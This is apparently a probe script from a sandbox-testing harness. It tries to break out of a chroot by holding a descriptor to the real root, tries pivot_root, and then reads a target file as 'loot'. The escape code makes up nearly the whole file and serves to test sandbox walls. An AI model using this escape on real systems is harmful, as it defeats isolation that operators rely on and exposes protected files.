"""Changes its root and climbs out by a directory that it holds open; changes everybody's by pivot_root."""
# walls: seccomp capabilities landlock root
# observe: word unread
# depth: yes
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
PIVOT_ROOT = 41 if platform.machine() == "aarch64" else 155

os.makedirs("/tmp/jail/old", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
try:
    os.chroot("/tmp/jail")
    gained("chroot went well")
except OSError as error:
    tried(f"chroot: {error.strerror}")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
try:
    os.chroot(".")
    gained("chroot to the top went well")
except OSError as error:
    tried(f"chroot to the top: {error.strerror}")

for new, old in ((b"/tmp/jail", b"/tmp/jail/old"), (b".", b"."), (b"/proc", b"/proc/self")):
    if libc.syscall(ctypes.c_long(PIVOT_ROOT), new, old) == 0:
        gained(f"pivot_root to {new.decode()} went well")
    else:
        tried(f"pivot_root to {new.decode()}: {os.strerror(ctypes.get_errno())}")

for path in (aim.file, aim.file.lstrip("/")):
    try:
        with open(path, "rb") as file:
            loot(file.read())
    except OSError as error:
        tried(f"{path}: {error.strerror}")
